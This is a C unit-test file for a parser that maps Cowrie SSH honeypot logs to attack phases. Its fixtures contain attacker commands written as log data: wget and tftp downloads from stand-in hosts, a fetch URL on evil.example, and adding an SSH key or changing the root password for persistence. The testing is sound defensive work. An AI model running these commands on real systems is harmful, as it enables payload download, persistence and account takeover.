/*  test_cowrie.c - the Cowrie adapter: field mapping, the phase table, the quirks of real
    logs (truncated lines, reordering, bytes-repr versions, missing fields, non-objects)
    and one run over the smallest real radec73-2024 file ($SHARED_DIR/realdata). */
#include "cowrie.h"
#include "err.h"
#include "xalloc.h"

#include <jansson.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

/*  Observations a sink collected (copies). */
typedef struct {
    obs_t **obs; /* collected records, owned */
    size_t n;    /* number of records */
    size_t cap;  /* slots in obs */
    int checked; /* records that failed obs_check_record */
} s_got_t;

static int
s_collect(const obs_t *obs, void *arg)
{
    s_got_t *got = arg;
    obs_error_t err = {0};
    if (obs_check_record(obs, &err) != 0) {
        got->checked++;
    }
    xgrow(&got->obs, &got->cap, got->n + 1);
    got->obs[got->n++] = obs_dup(obs);
    return 0;
}

static void
s_got_clear(s_got_t *got)
{
    for (size_t i = 0; i < got->n; i++) {
        obs_destroy(&got->obs[i]);
    }
    free(got->obs);
    memset(got, 0, sizeof *got);
}

/*  Feeds NULL-terminated lines (line numbers from 1), finishes into got. */
static void
s_run(cowrie_t *cw, const char *const *lines, s_got_t *got)
{
    for (size_t i = 0; lines[i]; i++) {
        cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1);
    }
    assert_int_equal(cowrie_finish(cw, s_collect, got), 0);
    assert_int_equal(got->checked, 0);
}

#define EV(id, ip, sess, ts, extra)                                                                \
    "{\"eventid\":\"" id "\",\"src_ip\":\"" ip "\",\"session\":\"" sess "\",\"timestamp\":\"" ts   \
    "\"" extra "}"

static void
test_parse_time(void **state)
{
    (void)state;
    double t = 0;
    assert_int_equal(cowrie_parse_time("2019-12-03T03:29:04.584737Z", &t), 0);
    assert_true(t > 1575343744.5847 && t < 1575343744.5848);
    assert_int_equal(cowrie_parse_time("1970-01-01T00:00:00Z", &t), 0);
    assert_true(t == 0.0);
    assert_int_equal(cowrie_parse_time("2024-02-29T12:00:00+00:00", &t), 0);
    assert_true(t == 1709208000.0);
    assert_int_equal(cowrie_parse_time("2024-13-01T00:00:00Z", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("yesterday", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("2024-01-01T00:00:00.Z", &t), CADRE_ERECORD);
    assert_int_equal(cowrie_parse_time("2024-01-01T00:00:00+02:00", &t), CADRE_ERECORD);
}

static void
test_mapping(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.session.connect", "1.2.3.4", "s1", "2020-01-01T00:00:00.000000Z",
           ",\"sensor\":\"pot-1\""),
        EV("cowrie.client.version", "1.2.3.4", "s1", "2020-01-01T00:00:00.100000Z",
           ",\"version\":\"b'SSH-2.0-Go'\""),
        EV("cowrie.client.kex", "1.2.3.4", "s1", "2020-01-01T00:00:00.200000Z",
           ",\"hassh\":\"0123abcd\""),
        EV("cowrie.login.failed", "1.2.3.4", "s1", "2020-01-01T00:00:01.000000Z",
           ",\"username\":\"root\",\"password\":\"root\""),
        EV("cowrie.login.success", "1.2.3.4", "s1", "2020-01-01T00:00:02.000000Z",
           ",\"username\":\"root\",\"password\":\"toor\""),
        EV("cowrie.command.input", "1.2.3.4", "s1", "2020-01-01T00:00:03.000000Z",
           ",\"input\":\"ls -la\""),
        EV("cowrie.command.failed", "1.2.3.4", "s1", "2020-01-01T00:00:03.100000Z",
           ",\"input\":\"ls -la\""),
        EV("cowrie.command.failed", "1.2.3.4", "s1", "2020-01-01T00:00:03.200000Z",
           ",\"input\":\"Enter new UNIX password:\""),
        EV("cowrie.session.file_download", "1.2.3.4", "s1", "2020-01-01T00:00:04.000000Z",
           ",\"shasum\":\"aa11\",\"url\":\"http://user@evil.example:8080/x.sh\""),
        EV("cowrie.session.closed", "1.2.3.4", "s1", "2020-01-01T00:00:10.000000Z", ""),
        EV("cowrie.session.connect", "5.6.7.8", "s2", "2020-01-01T00:00:05.000000Z", ""),
        NULL};
    cowrie_t *cw = cowrie_new();
    for (size_t i = 0; lines[i]; i++) {
        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
    }
    assert_string_equal(cowrie_client_version(cw, "1.2.3.4"), "SSH-2.0-Go");
    assert_null(cowrie_client_version(cw, "5.6.7.8"));
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 2);
    const obs_t *o = got.obs[0];
    assert_string_equal(o->id, "cowrie:1.2.3.4");
    assert_string_equal(o->ip, "1.2.3.4");
    assert_string_equal(o->hassh, "0123abcd");
    assert_int_equal(o->n_sessions, 1);
    const obs_session_t *s = &o->sessions[0];
    assert_string_equal(s->id, "s1");
    assert_string_equal(s->decky, "pot-1");
    assert_true(s->start == 1577836800.0);
    assert_true(s->duration == 10.0);
    assert_int_equal(s->n_commands, 2);
    assert_string_equal(s->commands[0], "ls -la");
    assert_string_equal(s->commands[1], "Enter new UNIX password:");
    assert_int_equal(s->n_creds, 2);
    assert_string_equal(s->creds[0].user, "root");
    assert_string_equal(s->creds[1].pass, "toor");
    assert_string_equal(s->payload_hash, "aa11");
    assert_string_equal(s->c2, "evil.example");
    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
    const obs_t *o2 = got.obs[1];
    assert_string_equal(o2->id, "cowrie:5.6.7.8");
    assert_null(o2->hassh);
    assert_null(o2->sessions[0].decky);
    assert_int_equal(o2->sessions[0].phase, UKC_RECONNAISSANCE);
    assert_int_equal(cowrie_lines(cw), 11);
    assert_int_equal(cowrie_bad(cw), 0);
    assert_int_equal(cowrie_sessions(cw), 2);
    assert_int_equal(cowrie_observations(cw), 2);
    s_got_clear(&got);
    cowrie_destroy(&cw);
    assert_null(cw);
}

/*  The phase of a one-session source fed lines. */
static ukc_phase_t
s_phase_of(const char *const *lines)
{
    cowrie_t *cw = cowrie_new();
    s_got_t got = {0};
    s_run(cw, lines, &got);
    assert_int_equal(got.n, 1);
    assert_int_equal(got.obs[0]->n_sessions, 1);
    ukc_phase_t phase = got.obs[0]->sessions[0].phase;
    s_got_clear(&got);
    cowrie_destroy(&cw);
    return phase;
}

#define T0 "2020-01-01T00:00:00Z"
#define LOGIN_FAIL                                                                                 \
    EV("cowrie.login.failed", "9.9.9.9", "p", T0, ",\"username\":\"a\",\"password\":\"b\"")
#define LOGIN_OK                                                                                   \
    EV("cowrie.login.success", "9.9.9.9", "p", T0, ",\"username\":\"a\",\"password\":\"b\"")
#define CMD(text) EV("cowrie.command.input", "9.9.9.9", "p", T0, ",\"input\":\"" text "\"")

static void
test_phases(void **state)
{
    (void)state;
    const char *recon[] = {EV("cowrie.session.connect", "9.9.9.9", "p", T0, ""), NULL};
    assert_int_equal(s_phase_of(recon), UKC_RECONNAISSANCE);
    const char *cred[] = {LOGIN_FAIL, LOGIN_FAIL, NULL};
    assert_int_equal(s_phase_of(cred), UKC_CREDENTIAL_ACCESS);
    const char *cred_ok[] = {LOGIN_FAIL, LOGIN_OK, NULL};
    assert_int_equal(s_phase_of(cred_ok), UKC_CREDENTIAL_ACCESS);
    const char *upload[] = {
        LOGIN_OK, EV("cowrie.session.file_upload", "9.9.9.9", "p", T0, ",\"shasum\":\"bb\""), NULL};
    assert_int_equal(s_phase_of(upload), UKC_DELIVERY);
    const char *exec[] = {LOGIN_OK, CMD("ls"), CMD("echo hi"), NULL};
    assert_int_equal(s_phase_of(exec), UKC_EXECUTION);
    const char *disc[] = {LOGIN_OK, CMD("ls"), CMD("cat /proc/cpuinfo | grep name"), NULL};
    assert_int_equal(s_phase_of(disc), UKC_DISCOVERY);
    const char *uname[] = {LOGIN_OK, CMD("uname -a"), NULL};
    assert_int_equal(s_phase_of(uname), UKC_DISCOVERY);
    const char *pers[] = {LOGIN_OK, CMD("uname -a"),
                          CMD("echo ssh-rsa AAA >> ~/.ssh/authorized_keys"), NULL};
    assert_int_equal(s_phase_of(pers), UKC_PERSISTENCE);
    const char *chpw[] = {LOGIN_OK, CMD("echo root:x|chpasswd"), NULL};
    assert_int_equal(s_phase_of(chpw), UKC_PERSISTENCE);
    const char *c2[] = {LOGIN_OK, CMD("crontab -l"), CMD("cd /tmp; wget http://1.2.3.4/a"), NULL};
    assert_int_equal(s_phase_of(c2), UKC_COMMAND_AND_CONTROL);
    const char *tftp[] = {LOGIN_OK, CMD("tftp -g 1.2.3.4"), NULL};
    assert_int_equal(s_phase_of(tftp), UKC_COMMAND_AND_CONTROL);
    /* A "download" without a URL is Cowrie saving an echo redirect: no C2. */
    const char *echo[] = {LOGIN_OK, CMD("echo 321 > /tmp/x"),
                          EV("cowrie.session.file_download", "9.9.9.9", "p", T0,
                             ",\"shasum\":\"cc\",\"outfile\":\"x\""),
                          NULL};
    assert_int_equal(s_phase_of(echo), UKC_EXECUTION);
}

/*  sha256("321\n") is the C2 campaign's marker on sweetie-2020 (132 IPs): it is kept. */
static void
test_echo_321_kept(void **state)
{
    (void)state;
    const char *sha = "ff6f81930943c96a37d7741cd547ad90295a9bd63b6194b2a834a1d32bc8f85d";
    char line[512];
    snprintf(line, sizeof line,
             EV("cowrie.session.file_download", "9.9.9.9", "p", T0,
                ",\"shasum\":\"%s\",\"outfile\":\"x\""),
             sha);
    const char *lines[] = {LOGIN_OK, CMD("echo \\\"321\\\" > /var/tmp/.var03522123"), line, NULL};
    cowrie_t *cw = cowrie_new();
    s_got_t got = {0};
    s_run(cw, lines, &got);
    const obs_t *o = got.obs[0];
    const obs_session_t *s = &o->sessions[o->n_sessions - 1];
    assert_non_null(s->payload_hash);
    assert_string_equal(s->payload_hash, sha);
    assert_null(s->c2);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_out_of_order(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.300000Z",
           ",\"input\":\"third\""),
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.100000Z",
           ",\"input\":\"first\""),
        EV("cowrie.login.success", "7.7.7.7", "o", "2020-01-01T00:00:05.000000Z",
           ",\"username\":\"u\",\"password\":\"p\""),
        EV("cowrie.command.input", "7.7.7.7", "o", "2020-01-01T00:00:05.200000Z",
           ",\"input\":\"second\""),
        EV("cowrie.session.closed", "7.7.7.7", "o", "2020-01-01T00:00:05.900000Z", ""),
        NULL};
    cowrie_t *cw = cowrie_new();
    s_got_t got = {0};
    s_run(cw, lines, &got);
    const obs_session_t *s = &got.obs[0]->sessions[0];
    assert_int_equal(s->n_commands, 3);
    assert_string_equal(s->commands[0], "first");
    assert_string_equal(s->commands[1], "second");
    assert_string_equal(s->commands[2], "third");
    assert_true(s->start == 1577836805.0);
    assert_true(s->duration > 0.899 && s->duration < 0.901);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_bad_lines(void **state)
{
    (void)state;
    cowrie_t *cw = cowrie_new();
    const char *good = EV("cowrie.login.failed", "3.3.3.3", "b", T0, ",\"username\":\"root\"");
    assert_int_equal(cowrie_feed(cw, good, strlen(good), 1), 0); /* no password: no pair */
    const char *array = "[1, 2, 3]";
    assert_int_equal(cowrie_feed(cw, array, strlen(array), 2), CADRE_ERECORD);
    const char *no_ip = "{\"eventid\":\"cowrie.session.connect\",\"session\":\"x\","
                        "\"timestamp\":\"" T0 "\"}";
    assert_int_equal(cowrie_feed(cw, no_ip, strlen(no_ip), 3), CADRE_ERECORD);
    const char *bad_ts = EV("cowrie.session.connect", "3.3.3.3", "b", "not a time", "");
    assert_int_equal(cowrie_feed(cw, bad_ts, strlen(bad_ts), 4), CADRE_ERECORD);
    const char *ip_num =
        "{\"eventid\":\"e\",\"src_ip\":5,\"session\":\"x\",\"timestamp\":\"" T0 "\"}";
    assert_int_equal(cowrie_feed(cw, ip_num, strlen(ip_num), 5), CADRE_ERECORD);
    assert_int_equal(cowrie_feed(cw, "   ", 3, 6), 0); /* blank: ignored */
    const char *wrong_type = EV("cowrie.command.input", "3.3.3.3", "b", T0, ",\"input\":42");
    assert_int_equal(cowrie_feed(cw, wrong_type, strlen(wrong_type), 7), 0);
    const char *truncated = EV("cowrie.session.connect", "3.3.3.3", "b", T0, "");
    assert_int_equal(cowrie_feed(cw, truncated, strlen(truncated) - 7, 8), CADRE_ETRUNC);
    for (uint64_t i = 0; i < 30; i++) {
        assert_int_equal(cowrie_feed(cw, "garbage", 7, 100 + i), CADRE_ERECORD);
    }
    assert_int_equal(cowrie_lines(cw), 38);
    assert_int_equal(cowrie_bad(cw), 35);
    assert_int_equal(cowrie_bad_reported(cw), COWRIE_MAX_REPORTED);
    assert_int_equal(cowrie_bad_at(cw, 0)->line_no, 2);
    assert_int_equal(cowrie_bad_at(cw, 1)->line_no, 3);
    assert_non_null(strstr(cowrie_bad_at(cw, 1)->message, "src_ip"));
    assert_int_equal(cowrie_bad_at(cw, 4)->line_no, 8);
    assert_int_equal(cowrie_bad_at(cw, 19)->line_no, 114);
    assert_null(cowrie_bad_at(cw, 20));
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_int_equal(got.n, 1);
    const obs_session_t *s = &got.obs[0]->sessions[0];
    assert_int_equal(s->n_creds, 0);
    assert_int_equal(s->n_commands, 0);
    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

static void
test_legacy_hassh(void **state)
{
    (void)state;
    const char *lines[] = {
        EV("cowrie.client.version", "4.4.4.4", "h", T0,
           ",\"version\":\"b\\\"SSH-2.0-libssh\\\"\",\"kexAlgs\":[\"kexa\",\"kexb\"],"
           "\"keyAlgs\":[\"ssh-rsa\"],\"encCS\":[\"aes128-ctr\"],\"macCS\":[\"hmac-sha1\"],"
           "\"compCS\":[\"none\"]"),
        EV("cowrie.client.version", "4.4.4.5", "i", T0,
           ",\"version\":\"SSH-2.0-x\",\"kexAlgs\":[\"kexa\"],\"encCS\":[\"aes128-ctr\"]"),
        NULL};
    cowrie_t *cw = cowrie_new();
    for (size_t i = 0; lines[i]; i++) {
        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
    }
    assert_string_equal(cowrie_client_version(cw, "4.4.4.4"), "SSH-2.0-libssh");
    assert_string_equal(cowrie_client_version(cw, "4.4.4.5"), "SSH-2.0-x");
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.n, 2);
    /* md5("kexa,kexb;aes128-ctr;hmac-sha1;none") */
    assert_string_equal(got.obs[0]->hassh, "febae66b2c33545ec8a86899d0799304");
    assert_null(got.obs[1]->hassh); /* lists incomplete: no HASSH */
    s_got_clear(&got);
    cowrie_destroy(&cw);
}

/*  Path of the smallest radec73-2024 Cowrie file per MANIFEST.tsv, owned, or NULL. */
static char *
s_smallest_real(const char *shared)
{
    char *manifest = xasprintf("%s/realdata/MANIFEST.tsv", shared);
    FILE *f = fopen(manifest, "r");
    free(manifest);
    if (!f) {
        return NULL;
    }
    char row[1024];
    char best[512] = "";
    unsigned long long best_size = 0;
    while (fgets(row, sizeof row, f)) {
        char dataset[64], file[400];
        unsigned long long size;
        if (sscanf(row, "%63s %399s %llu", dataset, file, &size) == 3 &&
            strcmp(dataset, "radec73-2024") == 0 && (best[0] == '\0' || size < best_size)) {
            snprintf(best, sizeof best, "%s", file);
            best_size = size;
        }
    }
    fclose(f);
    return best[0] ? xasprintf("%s/realdata/radec73-2024/%s", shared, best) : NULL;
}

static void
test_real_file(void **state)
{
    (void)state;
    /* The shared data sits beside the checkout in CI and here; its absence is a failure. */
    const char *shared = getenv("SHARED_DIR");
    assert_non_null(shared);
    char *path = s_smallest_real(shared);
    assert_non_null(path);
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    cowrie_t *cw = cowrie_new();
    json_t *ips = json_object();
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    uint64_t line_no = 0;
    while ((n = getline(&line, &cap, f)) >= 0) {
        line_no++;
        size_t len = (size_t)n;
        if (len > 0 && line[len - 1] == '\n') {
            len--;
        }
        cowrie_feed(cw, line, len, line_no);
        json_t *ev = json_loadb(line, len, 0, NULL);
        const char *ip = json_string_value(json_object_get(ev, "src_ip"));
        if (ip) {
            json_object_set_new(ips, ip, json_true());
        }
        json_decref(ev);
    }
    free(line);
    fclose(f);
    s_got_t got = {0};
    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
    assert_int_equal(got.checked, 0);
    assert_true(got.n > 0);
    assert_int_equal(got.n, json_object_size(ips));
    assert_int_equal(cowrie_lines(cw), line_no);
    assert_int_equal(cowrie_bad(cw), 0);
    size_t sessions = 0;
    for (size_t i = 0; i < got.n; i++) {
        sessions += got.obs[i]->n_sessions;
    }
    assert_int_equal(sessions, cowrie_sessions(cw));
    json_decref(ips);
    s_got_clear(&got);
    cowrie_destroy(&cw);
    free(path);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_parse_time),   cmocka_unit_test(test_mapping),
        cmocka_unit_test(test_phases),       cmocka_unit_test(test_echo_321_kept),
        cmocka_unit_test(test_out_of_order), cmocka_unit_test(test_bad_lines),
        cmocka_unit_test(test_legacy_hassh), cmocka_unit_test(test_real_file),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
